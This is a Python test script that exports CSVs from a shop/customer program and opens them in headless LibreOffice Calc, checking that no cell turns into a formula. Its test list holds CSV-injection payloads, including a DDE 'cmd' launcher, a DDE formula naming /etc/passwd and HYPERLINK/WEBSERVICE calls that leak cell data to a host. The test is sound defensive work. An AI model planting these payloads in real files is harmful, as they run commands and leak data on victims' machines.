#!/usr/bin/env python3
"""Opens every CSV that the program writes in a spreadsheet program: no cell is a formula, every text is what was written.

    python3 tests/spreadsheet.py target/release/regulars

The spreadsheet program is LibreOffice Calc without a window, told to run every formula that it meets. It is large, so
`sh tests/run` does not install it: without `soffice` this prints that it was skipped. On Debian and Ubuntu:
`apt-get install --no-install-recommends libreoffice-calc`. The texts are a short list of formulas, and the big list of
naughty strings where it is there (../shared/data/hostile/blns.json, or below REGULARS_DATA).
"""

import csv
import shutil
import xml.etree.ElementTree as xml

from support import harness
from support.harness import Shop

FORMULAS = [
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1+1", "－2+3",
    "＠SUM(1)", '=HYPERLINK("http://example.com/?"&A1,"Ida")', "=DDE(\"soffice\";\"/etc/passwd\";\"1\")",
    "=WEBSERVICE(\"http://example.com/\")", '"=1+1', 'a",=1+1', "'=1+1", "-", "--1", "+1 650 555 0123", "-12.50",
]
SIGNS = "=+-@\t\r\n＝＋－＠"
# Comma, quotation marks, UTF-8, from line 1, no column types, the user's language, texts in quotation marks may be
# numbers, dates are not looked for, all sheets, formulas are run.
FILTER = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1,true"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def quoted(text):
    return '"' + text.replace('"', '""') + '"'


def written(home, texts):
    """A shop full of such people, and every CSV that comes out of it."""
    shop = Shop(home)
    people, sales = "Customer ID,Last Name,City,Street,Postcode,Post Consent\n", "Customer ID,Date,Item,Amount\n"
    for n, text in enumerate(texts):
        cell = quoted(text)
        people += f"C{n},{cell},{cell},{n} Main St,1,\n" + f"{cell},{cell},Oslo,{n} Main St,1,perhaps\n"
        people += f"{quoted(text + ' ' + str(n))},{cell},{cell},{n} Main St,{cell},\n"
        sales += f"C{n},2024-02-{n % 28 + 1:02},{cell},{n % 90 + 10}.00\n"
        sales += f"{quoted(text + ' ' + str(n))},2024-01-{n % 28 + 1:02},{cell},{n % 90 + 10}.00\n"
    # As the file was: carriage returns inside of cells as well.
    shop.run("import", "customers", shop.write("people.csv", people), "--skip-bad")
    shop.run("import", "purchases", shop.write("sales.csv", sales), "--skip-bad")
    shop.write("out/best.csv", shop.run("best", "--csv", "--top", "100%").stdout)
    shop.write("campaigns/spring.toml",
        'name = "=1+1"\nas_of = 2024-03-01\nchannel = "letter"\n[segment]\nwhere = "spend_12m > 0"\none_per = "customer"\n'
        '[gift]\nname = "a tin of tea"\nunit_cost = "2.50"\nclaim_until = 2024-06-30\n[letter]\ntemplate = "spring.md"\n'
        'postage = "0.68"\n[[branch]]\nname = "@SUM(1)"\nwhen = "true"\n')
    shop.write("letter-templates/spring.md", "{{ greeting }}\n\nTea.\n")
    shop.run("plan", "spring")
    shop.run("print", "spring", "--leave-out-problems", status=(0, 3))
    shop.run("posted", "spring", "--on", "2024-03-01")
    shop.write("out/report.csv", shop.run("report", "spring", "--csv").stdout)
    return sorted((shop.folder / "out").rglob("*.csv"))


def opened(paths, home):
    """The cells of each file as the spreadsheet program has them: (text, formula, kind)."""
    made = home / "opened"
    command = ["soffice", f"-env:UserInstallation=file://{home}/profile", "--headless", "--norestore",
               f"--infilter={FILTER}", "--convert-to", "fods", "--outdir", str(made)]
    for path in paths:
        harness.outside(*command, path)
        yield path, cells(made / f"{path.stem}.fods")


def cells(path):
    rows = []
    for row in xml.parse(path).iter(f"{TABLE}table-row"):
        found = []
        for cell in row.iter(f"{TABLE}table-cell"):
            text = "\n".join(said(part) for part in cell.findall(f"{TEXT}p"))
            one = (text, cell.get(f"{TABLE}formula"), cell.get(f"{OFFICE}value-type"))
            found += [one] * min(int(cell.get(f"{TABLE}number-columns-repeated", "1")), 64)
        rows += [found] * min(int(row.get(f"{TABLE}number-rows-repeated", "1")), 64)
    return rows


def said(part):
    """The text of a paragraph, with its spaces and tabs."""
    text = part.text or ""
    for inner in part:
        name = inner.tag.removeprefix(TEXT)
        text += {"s": " " * int(inner.get(f"{TEXT}c", "1")), "tab": "\t", "line-break": "\n"}.get(name) or said(inner)
        text += inner.tail or ""
    return text


def is_number(text):
    return text.removeprefix("-").replace(".", "", 1).isdigit()


def main():
    harness.arguments()
    if not shutil.which("soffice"):
        harness.leave_out("there is no soffice (LibreOffice Calc)")
    texts = [*FORMULAS, *(text for text in harness.naughty_strings() or [] if text.strip())]
    with harness.folder() as home:
        # First that it would be seen: a formula that nothing guards is run.
        bare = home / "bare.csv"
        bare.write_text("a\n=1+1\n", encoding="utf-8")
        (_, rows), = opened([bare], home)
        assert rows[1][0][1], f"this spreadsheet program runs no formulas: {rows[:3]}"
        guarded = seen = 0
        for path, rows in opened(written(home, texts), home):
            with open(path, encoding="utf-8", newline="") as file:
                expected = list(csv.reader(file))
            for line, (row, cells_there) in enumerate(zip(expected, rows), 1):
                for text, (shown, formula, kind) in zip(row, cells_there):
                    where = f"{path.name}:{line}: {text!r}"
                    assert formula is None, f"{where} became the formula {formula}"
                    assert is_number(text) or not text.lstrip(" ").startswith(tuple(SIGNS)), f"{where} may become one"
                    # Control characters and numbers have another face in a spreadsheet.
                    if kind == "string" and text.isprintable():
                        assert shown == text, f"{where} became {shown!r}"
                        seen += 1
                        guarded += text.startswith("'")
            assert len(rows) >= len(expected), f"{path.name}: {len(rows)} rows of {len(expected)}"
        assert guarded > 50, f"too few hostile texts came so far: {guarded}"
        print(f"spreadsheet: {seen} texts, {guarded} of them guarded, and not one formula")


main()
